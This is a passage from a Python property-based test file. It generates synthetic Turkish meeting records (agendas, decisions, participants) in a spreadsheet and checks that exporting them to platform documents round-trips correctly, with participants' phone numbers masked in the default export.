        time = draw(st.one_of(st.none(), st.builds(dt.time, st.integers(0, 23), st.integers(0, 59))))
        rows["Toplantılar"].append(
            [
                no,
                draw(st.sampled_from(categories)),
                draw(st.sampled_from(rules.MEETING_TYPES)),
                held or dt.date(YEAR, 6, 1),
                held,
                time,
                draw(words),
            ]
        )
        for seq in range(1, draw(st.integers(0, 2)) + 1):
            rows["Gündem"].append([no, seq, draw(words)])
        for _ in range(draw(st.integers(0, 3))):
            decision_no += 1
            rows["Kararlar"].append(
                [
                    decision_no,
                    no,
                    draw(words),
                    draw(words),
                    draw(words),
                    "; ".join(draw(st.lists(words.filter(lambda s: ";" not in s), min_size=1, max_size=3))),
                    draw(st.dates(dt.date(YEAR, 1, 1), dt.date(YEAR + 2, 12, 31))),
                    draw(st.sampled_from(rules.DECISION_STATUSES)),
                    None,
                    draw(st.one_of(st.none(), words)),
                ]
            )
        for seq in range(1, draw(st.integers(0, 4)) + 1):
            rows["Katılımcılar"].append(
                [
                    no,
                    seq,
                    draw(words),
                    draw(words),
                    draw(words),
                    draw(phones),
                    draw(st.sampled_from(["Evet", "Hayır", None])),
                ]
            )
    return rows


def expected_meetings(rows: dict[str, list[list]]) -> list[dict]:
    """What the documents must say, computed from the generated rows (not from the reader)."""
    kinds = codes.closed_lists()
    out = []
    for no, category, kind, _planned, held, time, place in rows["Toplantılar"]:
        if held is None:
            continue
        decisions = [d for d in rows["Kararlar"] if d[1] == no]
        people = [p for p in rows["Katılımcılar"] if p[0] == no]
        out.append(
            {
                "toplanti_no": str(no),
                "kategori": kinds["Kategori"][category],
                "tur": kinds["ToplantiTuru"][kind],
                "tarih": held.isoformat(),
                "saat": f"{time:%H:%M}" if time else None,
                "yer": place,
                "konu_basliklari": [g[2] for g in rows["Gündem"] if g[0] == no],
                "kararlar": [
                    {
                        "no": str(d[0]),
                        "karar": d[2],
                        "gerekce": d[3],
                        "amac": d[4],
                        "sorumlu_kurumlar": [s.strip() for s in d[5].split(";")],
                        "verilen_sure": d[6].isoformat(),
                        "durum": kinds["KararDurumu"][d[7]],
                        "degerlendirme": d[9],
                    }
                    for d in decisions
                ],
                "katilimcilar": [
                    {
                        "sira": p[1],
                        "kurum": parse.choice(p[2], contract.lists()["Kurumlar"]),
                        "unvan": p[3],
                        "ad_soyad": p[4],
                        "telefon": p[5],
                        "vekil": p[6] == "Evet",
                    }
                    for p in people
                ],
            }
        )
    out.sort(key=lambda m: (m["tarih"], int(m["toplanti_no"])))
    return out


def _view(doc: dict) -> dict:
    keys = ("no", "karar", "gerekce", "amac", "sorumlu_kurumlar", "verilen_sure", "durum", "degerlendirme")
    return {
        **{
            k: doc[k]
            for k in ("toplanti_no", "kategori", "tur", "tarih", "saat", "yer", "konu_basliklari", "katilimcilar")
        },
        "kararlar": [{k: d[k] for k in keys} for d in doc["kararlar"]],
    }


@settings(max_examples=10, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(workbooks())
def test_round_trip_workbook_documents_read_back(rows):
    with tempfile.TemporaryDirectory() as tmp:
        book = Path(tmp) / "kitap.xlsx"
        fill_workbook(book, example.example_settings(), copy.deepcopy(rows))
        result = operations.export_platform(book, Path(tmp) / "tam", personal_data=True)
        docs = platform_folder.read_folder(Path(tmp) / "tam")
        assert [d["belge_turu"] for d in docs].count("toplanti") == sum(r[4] is not None for r in rows["Toplantılar"])
        meetings = [_view(d) for d in docs if d["belge_turu"] == "toplanti"]
        assert meetings == expected_meetings(rows)
        for d in docs:
            assert validate_independently(d) == []
            if d["belge_turu"] == "toplanti":
                assert d["katilimci_sayisi"] == len(d["katilimcilar"])
        # the default export differs only in the masked phones
        masked = operations.export_platform(book, Path(tmp) / "maskeli")
        for name, doc in masked.documents.items():
            full = result.documents[name]
            if doc["belge_turu"] != "toplanti":
                assert doc == full
                continue
            assert [p["telefon"] for p in doc["katilimcilar"]] == [
                codes.mask_phone(p["telefon"]) for p in full["katilimcilar"]
            ]

            def strip(d):
                return {
                    **d,
                    "telefon_maskeli": None,
                    "katilimcilar": [{**p, "telefon": None} for p in d["katilimcilar"]],
                }

            assert strip(doc) == strip(full)
